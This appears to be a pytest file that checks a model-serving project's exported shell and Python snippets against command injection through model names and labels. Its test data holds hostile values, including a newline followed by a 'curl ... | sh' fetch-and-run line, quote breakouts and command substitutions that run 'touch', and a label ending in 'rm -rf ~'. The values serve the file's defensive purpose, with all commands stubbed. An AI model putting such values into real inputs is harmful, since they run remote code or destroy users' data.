"""“Use this setting” as a person uses it: the snippets pasted into a shell and a Python file
outside the repository. The transformers snippet installs the lab and runs on the embedded
pair; with the engines' commands stubbed, no name from a link (the red team's payloads) runs
anything in any bash block, and every name reaches its command as one argument; Python blocks
carry names as exact string literals; a link cannot hand the sidebar a name with a control
character, and the pair box shows a name as text, never as a link.
(The vLLM snippet runs in `make test-vllm`: integrations/vllm/tests/test_export_snippet.py.)"""

from __future__ import annotations

import ast
import json
import os
import sys
from pathlib import Path

import pytest
from pasted import overlay_venv, run_pasted

from cactus_core.app.shared.engine_export import REPO, export_blocks
from cactus_core.app.shared.export_setting import decode_export, engine_models
from cactus_core.app.shared.links import sidebar_fields
from cactus_core.app.shared.markdown import md_code, md_text
from cactus_core.app.shared.settings import AppSettings
from cactus_core.maths.rules import make_rule
from cactus_core.maths.rules.spec import rule_from_spec
from cactus_core.maths.sampling import SamplingSettings

SAMPLING = SamplingSettings(temperature=0.7, top_p=0.95, k=4)
RULE = make_rule("cactus", delta=0.0523)

# The red team's names (issue 50): a newline that starts a `curl | sh` line, a quote that
# breaks out of single quotes, a command substitution in a hub-id-like name (llama.cpp's GGUF
# name), backticks, and a public server's labels with spaces.
HOSTILE = [
    AppSettings(
        verifier="HuggingFaceTB/SmolLM2-135M-Instruct\ncurl -s https://example.invalid/x|sh\n#",
        draft="x' ; touch PWNED ; echo '",
        sampling=SAMPLING,
    ),
    AppSettings(verifier="org/$(touch X)", draft="a`touch Y`b", sampling=SAMPLING),
    AppSettings(
        verifier="/srv/models/smollm2-360m",
        draft="HuggingFaceTB/SmolLM2-135M-Instruct",
        verifier_label="SmolLM2 360M (local)",
        draft_label="tiny draft; rm -rf ~",
        sampling=SAMPLING,
    ),
]
STUBBED = ("vllm", "pip", "python", "llama-server", "sh", "curl", "trtllm-serve")
STUB = """#!/bin/bash
f=$(mktemp "$STUB_CALLS/call.XXXXXX")
printf '%s\\0' "$(basename "$0")" "${CACTUS_VLLM_RULE-}" "$@" > "$f"
"""


def stub_bin(root: Path) -> Path:
    bin_dir = root / "stubs"
    bin_dir.mkdir()
    for name in STUBBED:
        (bin_dir / name).write_text(STUB)
        (bin_dir / name).chmod(0o755)
    return bin_dir


def calls(folder: Path) -> list[tuple[str, str, list[str]]]:
    """(command, its CACTUS_VLLM_RULE, its arguments) of every stubbed call."""
    out = []
    for f in sorted(folder.iterdir()):
        name, rule, *args = f.read_bytes().decode().split("\0")[:-1]
        out.append((name, rule, args))
    return out


@pytest.mark.parametrize("settings", HOSTILE, ids=["newline-quote", "substitution", "labels"])
def test_no_name_runs_anything_in_a_bash_block(settings, tmp_path):
    models = engine_models(settings)
    stubs = stub_bin(tmp_path)
    for engine in export_blocks(decode_export(settings, RULE, None)):
        for block in engine.blocks:
            if block.language != "bash":
                continue
            work = tmp_path / f"{engine.engine}-{block.title}".replace(" ", "_")
            (work / "calls").mkdir(parents=True)
            env = {**os.environ, "PATH": f"{stubs}:{os.environ['PATH']}"}
            env["STUB_CALLS"] = str(work / "calls")
            out = run_pasted(block.code, work, stubs, env=env, timeout=60)
            assert out.returncode == 0, (block.code, out.stderr)
            assert sorted(p.name for p in work.iterdir()) == ["calls"], block.code  # no PWNED
            made = calls(work / "calls")
            assert made, block.code
            assert not [c for c in made if c[0] in ("sh", "curl")], block.code
            for name, rule, args in made:
                if name == "vllm":
                    assert args[:2] == ["serve", models.verifier]
                    assert rule_from_spec(rule) == RULE
                    config = json.loads(args[args.index("--speculative-config") + 1])
                    if config["method"] == "draft_model":
                        assert config["model"] == models.draft
                        assert config["draft_sample_method"] == "probabilistic"
                if name == "python" and "sglang.launch_server" in args:
                    assert args[args.index("--model-path") + 1] == models.verifier
                    assert args[args.index("--speculative-draft-model-path") + 1] == models.draft


@pytest.mark.parametrize("settings", HOSTILE, ids=["newline-quote", "substitution", "labels"])
def test_python_blocks_carry_names_as_exact_literals(settings):
    models = engine_models(settings)
    setting = decode_export(settings, RULE, None)
    for engine in export_blocks(setting):
        for block in engine.blocks:
            if block.language != "python":
                continue
            tree = ast.parse(block.code)
            strings = {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant)}
            assert models.verifier in strings and models.draft in strings, block.code
            names = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)}
            assert "touch" not in names and "curl" not in names


def test_public_labels_give_placeholders_not_server_paths():
    models = engine_models(HOSTILE[2])
    assert models.verifier == "/path/to/SmolLM2-360M-local"  # the server's folder stays hidden
    assert models.draft == "HuggingFaceTB/SmolLM2-135M-Instruct"  # a hub id is public anyway
    assert any("/path/to/" in note for note in models.notes)


def test_names_are_absolute_paths_or_hub_ids(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "models" / "v").mkdir(parents=True)
    models = engine_models(AppSettings(verifier="models/v", draft="org/draft"))
    assert models.verifier == str(tmp_path / "models" / "v") and models.draft == "org/draft"
    embedded = engine_models(AppSettings())
    assert Path(embedded.draft).is_absolute() and Path(embedded.draft).is_dir()


def test_a_link_cannot_name_a_model_with_a_control_character():
    fields = {f.name: f for f in sidebar_fields(public=False)}
    for name in ("verifier", "draft"):
        assert fields[name].parse("org/model") == "org/model"
        assert fields[name].parse("org/model\ncurl x|sh") is None
        assert fields[name].parse("org/model\x1b[2J") is None


def test_markdown_shows_names_as_text():
    name = "[text](https://example.invalid) **bold** `x`"
    escaped = md_text(name)
    assert "[text](" not in escaped and "\\[text\\](https\\:" in escaped
    assert "**" not in escaped.replace("\\*", "")
    code = md_code(name)
    assert code.startswith("`` ") and code.endswith(" ``") and name in code


@pytest.mark.slow
def test_the_transformers_snippet_runs_as_pasted(tmp_path):
    """The embedded pair's transformers blocks, exactly as the panel writes them: the install
    block in a fresh venv (over the lab's packages), then the Python block as a file, both from
    a folder outside the repository."""
    setting = decode_export(AppSettings(sampling=SAMPLING), RULE, None)
    blocks = {b.title: b.code for e in export_blocks(setting) if e.engine == "transformers"
              for b in e.blocks}  # fmt: skip
    bin_dir = overlay_venv(tmp_path, sys.executable)
    work = tmp_path / "elsewhere"
    work.mkdir()
    assert REPO not in work.parents
    installed = run_pasted(blocks["Install"], work, bin_dir)
    assert installed.returncode == 0, installed.stdout[-3000:] + installed.stderr[-3000:]
    (work / "snippet.py").write_text(blocks["Python"])
    ran = run_pasted("python snippet.py", work, bin_dir, env={"OMP_NUM_THREADS": "1"})
    assert ran.returncode == 0, ran.stderr[-3000:]
    assert len(ran.stdout.split()) >= 10  # an answer, decoded by the installed lab
    where = run_pasted(
        "python -c 'import cactus_core, cactus_transformers as t; print(cactus_core.__file__, "
        "t.__file__)'",
        work,
        bin_dir,
    )
    assert str(REPO) not in where.stdout and "site-packages" in where.stdout
